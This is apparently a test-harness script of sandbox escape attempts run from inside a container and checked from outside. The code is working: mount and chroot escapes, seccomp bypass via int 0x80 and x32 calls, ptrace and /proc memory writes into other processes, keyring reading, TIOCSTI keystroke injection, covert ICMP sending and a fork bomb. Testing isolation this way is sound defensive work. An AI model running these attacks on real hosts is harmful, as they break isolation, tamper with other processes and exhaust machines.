"""What shell commands cannot do: system calls of an attacker. What they achieve is looked at from outside, never by what is printed here."""

import ctypes
import mmap
import os
import platform
import signal
import socket
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
# Numbers of system calls: x86-64, arm64.
NR = {
    "io_uring_setup": (425, 425),
    "bpf": (321, 280),
    "perf_event_open": (298, 241),
    "userfaultfd": (323, 282),
    "add_key": (248, 217),
    "request_key": (249, 218),
    "keyctl": (250, 219),
    "process_vm_readv": (310, 270),
    "process_vm_writev": (311, 271),
    "unshare": (272, 97),
    "setns": (308, 268),
    "mount": (165, 40),
    "umount2": (166, 39),
    "pivot_root": (155, 41),
    "chroot": (161, 51),
    "open_tree": (428, 428),
    "move_mount": (429, 429),
    "fsopen": (430, 430),
    "fsconfig": (431, 431),
    "fsmount": (432, 432),
    "mount_setattr": (442, 442),
    "name_to_handle_at": (303, 264),
    "open_by_handle_at": (304, 265),
    "clone3": (435, 435),
    "pidfd_open": (434, 434),
    "pidfd_getfd": (438, 438),
    "fanotify_init": (300, 262),
}


def call(name, *args):
    numbers = NR[name]
    # Numbers are passed as the kernel takes them, in whole registers.
    wide = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    done = libc.syscall(ctypes.c_long(numbers[0] if X86 else numbers[1]), *wide)
    if done < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()), name)
    return done


def attempt(*steps):
    """Does each, and goes on when one fails."""
    for step in steps:
        try:
            step()
        except Exception as error:
            print(type(error).__name__, error)


def write(path, text="attacked\n"):
    with open(path, "a") as file:
        file.write(text)


CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x00020000, 0x10000000, 0x40000000
AT_FDCWD = -100


def own_mounts():
    """A namespace in which mounts can be changed, where one is to be had: what is done there is not seen by the machine."""
    flags = CLONE_NEWNS if os.geteuid() == 0 else CLONE_NEWNS | CLONE_NEWUSER
    attempt(lambda: call("unshare", flags))
    # Private, all the way down.
    attempt(lambda: call("mount", b"none", b"/", None, 0x4000 | 0x40000, None))


def mounts(how, target, folder):
    """Gets round what is mounted read-only or over something, then writes to `target`, or prints it."""
    own_mounts()
    made = os.path.join(folder, "mounted")
    os.makedirs(made, exist_ok=True)
    around = os.path.dirname(target)
    if how == "bind":
        attempt(lambda: call("mount", around.encode(), made.encode(), None, 0x1000, None), lambda: write(os.path.join(made, os.path.basename(target))))
    elif how == "remount":
        attempt(*[lambda at=at: call("mount", b"none", at, None, 0x1020, None) for at in (b"/", around.encode())], lambda: write(target))
    elif how == "umount":
        attempt(lambda: call("umount2", around.encode(), 2), lambda: call("umount2", target.encode(), 2), lambda: print(open(target).read()))
    elif how == "new-calls":
        def clone():
            tree = call("open_tree", AT_FDCWD, around.encode(), 1)
            # struct mount_attr: clears MOUNT_ATTR_RDONLY.
            attempt(lambda: call("mount_setattr", tree, b"", 0x1000, struct.pack("QQQQ", 0, 1, 0, 0), 32))
            call("move_mount", tree, b"", AT_FDCWD, made.encode(), 4)
        attempt(clone, lambda: write(os.path.join(made, os.path.basename(target))))
    elif how == "attr":
        attempt(lambda: call("mount_setattr", AT_FDCWD, b"/", 0x8000, struct.pack("QQQQ", 0, 1, 0, 0), 32), lambda: write(target))
    elif how == "pivot":
        def pivot():
            call("mount", b"none", made.encode(), b"tmpfs", 0, None)
            os.mkdir(made + "/old")
            call("pivot_root", made.encode(), (made + "/old").encode())
            write("/old" + target)
        attempt(pivot, lambda: write(target))
    elif how == "chroot":
        def leave():
            root = os.open("/", os.O_RDONLY)
            call("chroot", made.encode())
            os.fchdir(root)
            for _ in range(64):
                os.chdir("..")
            write("." + target)
        attempt(leave)


def nested(target):
    """A user namespace in a user namespace, with all capabilities in it."""
    def child():
        attempt(lambda: call("unshare", CLONE_NEWUSER | CLONE_NEWNS))
        attempt(lambda: call("mount", b"none", b"/", None, 0x1020, None), lambda: write(target))
    child()


def clone3(tag, go):
    args = struct.pack("QQQQQQQQ", CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    pid = call("clone3", args, len(args))
    if pid == 0:
        wait(go)
        os._exit(0)
    os.waitpid(pid, 0)


def enter(pid, target):
    """Another process's mounts."""
    def join():
        fd = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
        call("setns", fd, CLONE_NEWNS)
    attempt(join, lambda: write(target))


def by_handle(target):
    """Opens a file by its number, past every mount (needs CAP_DAC_READ_SEARCH)."""
    def go():
        handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + b"\0" * 128)
        mount_id = ctypes.c_int()
        call("name_to_handle_at", AT_FDCWD, target.encode(), handle, ctypes.byref(mount_id), 0)
        mount = os.open(os.path.dirname(target), os.O_RDONLY)
        fd = call("open_by_handle_at", mount, handle, os.O_WRONLY | os.O_APPEND)
        os.write(fd, b"attacked\n")
    attempt(go)


def wait(go):
    end = time.time() + 2
    while not os.path.exists(go) and time.time() < end:
        time.sleep(0.02)


def hold(what, tag, go):
    """Gets hold of something and keeps it as descriptor 77, until it has been seen from outside."""
    fd = None
    if what == "io_uring":
        fd = call("io_uring_setup", 4, ctypes.create_string_buffer(120))
    elif what == "bpf":
        # BPF_MAP_CREATE of an array.
        attr = struct.pack("IIII", 2, 4, 4, 1) + b"\0" * 112
        fd = call("bpf", 0, attr, len(attr))
    elif what == "perf":
        attr = bytearray(128)
        # PERF_TYPE_SOFTWARE, PERF_COUNT_SW_DUMMY, of this process, not of the kernel.
        struct.pack_into("IIQ", attr, 0, 1, 128, 9)
        struct.pack_into("Q", attr, 40, 0x20 | 0x40)
        fd = call("perf_event_open", bytes(attr), 0, -1, -1, 0)
    elif what == "userfaultfd":
        fd = call("userfaultfd", 1)
    elif what == "fanotify":
        # FAN_REPORT_FID needs no privilege.
        fd = call("fanotify_init", 0x200, os.O_RDONLY)
    elif what == "userns":
        call("unshare", CLONE_NEWUSER)
        fd = os.open("/dev/null", os.O_RDONLY)
    elif what == "netns":
        attempt(lambda: call("unshare", CLONE_NEWUSER))
        call("unshare", CLONE_NEWNET)
        fd = os.open("/dev/null", os.O_RDONLY)
    elif what == "self":
        fd = os.open("/dev/null", os.O_RDONLY)
    elif what == "pidfd":
        fd = call("pidfd_getfd", call("pidfd_open", int(os.environ["VICTIM"]), 0), 0, 0)
    else:
        family, kind, protocol = {
            "vsock": (40, socket.SOCK_STREAM, 0),
            "alg": (38, socket.SOCK_SEQPACKET, 0),
            "packet": (17, socket.SOCK_RAW, 0x0300),
            "raw": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
            "netlink-audit": (16, socket.SOCK_RAW, 9),
            "netlink-netfilter": (16, socket.SOCK_RAW, 12),
        }[what]
        fd = socket.socket(family, kind, protocol).detach()
    os.dup2(fd, 77)
    wait(go)


def machine_code(code):
    """Runs bytes as a program: calls of the 32-bit kernel interface have no other way."""
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    ctypes.CFUNCTYPE(ctypes.c_long)(address)()


def int80(path):
    """mkdir (39 of i386) by `int 0x80`, where a filter that knows 64-bit numbers alone would see another call."""
    low = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, mmap.PROT_READ | mmap.PROT_WRITE)
    low.write(path.encode() + b"\0")
    address = ctypes.addressof(ctypes.c_char.from_buffer(low))
    # push rbx; mov ebx, path; mov ecx, 0755; mov eax, 39; int 0x80; pop rbx; ret
    code = b"\x53\xbb" + struct.pack("I", address) + b"\xb9" + struct.pack("I", 0o755) + b"\xb8\x27\0\0\0\xcd\x80\x5b\xc3"
    machine_code(code)


def victim(secret):
    """Not an attacker: a process of the host, with something in its memory. Says it when asked."""
    libc.prctl(0x59616D61, ctypes.c_ulong(2**64 - 1), 0, 0, 0)
    memory = ctypes.create_string_buffer(secret.encode(), 64)
    print(os.getpid(), ctypes.addressof(memory), flush=True)
    for _ in sys.stdin:
        print(memory.value.decode(), flush=True)


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def other_memory(how, pid, address, text):
    pid, address = int(pid), int(address)
    if how == "kill":
        attempt(lambda: os.kill(pid, signal.SIGKILL))
        # Whatever it is called in here.
        attempt(lambda: os.kill(-1, signal.SIGCONT))
    elif how == "proc":
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            memory.seek(address)
            memory.write(text.encode() + b"\0")
    elif how == "write":
        data = ctypes.create_string_buffer(text.encode())
        mine, theirs = Iovec(ctypes.addressof(data), len(data)), Iovec(address, len(data))
        call("process_vm_writev", pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    elif how == "read":
        data = ctypes.create_string_buffer(64)
        mine, theirs = Iovec(ctypes.addressof(data), 64), Iovec(address, 64)
        call("process_vm_readv", pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        print(data.value)
    elif how == "ptrace":
        word = struct.unpack("Q", text.encode()[:7].ljust(8, b"\0"))[0]
        ptrace = libc.ptrace
        ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        if ptrace(16, pid, None, None) != 0:
            raise OSError(ctypes.get_errno(), "PTRACE_ATTACH")
        os.waitpid(pid, 0)
        ptrace(5, pid, ctypes.c_void_p(address), ctypes.c_void_p(word))
        ptrace(17, pid, None, None)


def key(how, name, value=""):
    """The kernel's keys of this user: KEY_SPEC_USER_KEYRING is -4."""
    if how == "add":
        print(call("add_key", b"user", name.encode(), value.encode(), len(value), -4))
    elif how == "remove":
        call("keyctl", 9, call("keyctl", 10, -4, b"user", name.encode(), 0), -4)
    else:
        # KEYCTL_LINK puts the user's keys into our session, where they may be read; 10 searches, 11 reads.
        attempt(lambda: call("keyctl", 8, -4, -3))
        found = call("keyctl", 10, -4, b"user", name.encode(), 0)
        data = ctypes.create_string_buffer(256)
        call("keyctl", 11, found, data, 256)
        print(data.value)


def shared(how, number, text=""):
    """System V shared memory."""
    libc.shmat.restype = ctypes.c_void_p
    if how == "make":
        found = libc.shmget(int(number), 4096, 0o1600)
    else:
        found = libc.shmget(int(number), 4096, 0)
    if found < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    if how == "remove":
        libc.shmctl(found, 0, None)
        return
    at = libc.shmat(found, None, 0)
    if text:
        ctypes.memmove(at, text.encode() + b"\0", len(text) + 1)
    else:
        print(ctypes.string_at(at))


def type_into_terminal(text):
    """TIOCSTI: as if the user had typed it."""
    import fcntl
    import pty

    master, slave = pty.openpty()
    if os.fork():
        os.wait()
        return
    os.setsid()
    fcntl.ioctl(slave, 0x540E, 0)
    for letter in text + "\n":
        fcntl.ioctl(slave, 0x5412, letter.encode())
    print(os.read(slave, 100).decode(), flush=True)
    os._exit(0)


def tell(kind, where, port, text):
    """Sends text to somebody."""
    if kind in ("unix", "abstract"):
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(3)
            one.connect("\0" + where if kind == "abstract" else where)
            one.sendall(text.encode())
            print(one.recv(200).decode())
    elif kind == "tcp":
        with socket.create_connection((where, int(port)), timeout=3) as one:
            one.sendall(text.encode())
            print(one.recv(200).decode())
    elif kind == "udp":
        family = socket.AF_INET6 if ":" in where else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as one:
            one.sendto(text.encode(), (where, int(port)))
    elif kind == "icmp":
        body = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + text.encode()[:32].ljust(32)
        total = sum(struct.unpack(f"!{len(body) // 2}H", body))
        total = (total >> 16) + (total & 0xFFFF)
        body = body[:2] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + body[4:]
        for sort in (socket.SOCK_DGRAM, socket.SOCK_RAW):
            def send(sort=sort):
                with socket.socket(socket.AF_INET, sort, socket.IPPROTO_ICMP) as one:
                    one.sendto(body, (where, 0))
            attempt(send)


def descriptors(target):
    """Everything that was left open: files are written to, folders are gone up from, namespaces are entered."""
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd < 3:
            continue
        attempt(lambda fd=fd: print(fd, os.readlink(f"/proc/self/fd/{fd}")))
        def through(fd=fd):
            there = os.open(os.path.basename(target), os.O_WRONLY | os.O_APPEND, dir_fd=fd)
            os.write(there, b"attacked\n")
        attempt(through, lambda fd=fd: call("setns", fd, 0), lambda fd=fd: os.write(fd, b"attacked\n"))
    attempt(lambda: write(target))


def bomb(count, tag):
    """Many processes, in sessions of their own, deaf to polite signals."""
    for _ in range(int(count)):
        if os.fork() == 0:
            os.setsid()
            for each in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(each, signal.SIG_IGN)
            if os.fork():
                time.sleep(300)
            time.sleep(300)
            os._exit(0)
    print("armed", flush=True)
    time.sleep(300)


ATTACKS = {
    "mounts": mounts,
    "nested": nested,
    "clone3": clone3,
    "enter": enter,
    "by-handle": by_handle,
    "hold": hold,
    "int80": int80,
    "x32": lambda path: libc.syscall(ctypes.c_long(83 | 0x40000000), path.encode(), 0o755),
    "victim": victim,
    "other-memory": other_memory,
    "key": key,
    "shared": shared,
    "terminal": type_into_terminal,
    "tell": tell,
    "descriptors": descriptors,
    "bomb": bomb,
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*sys.argv[2:])
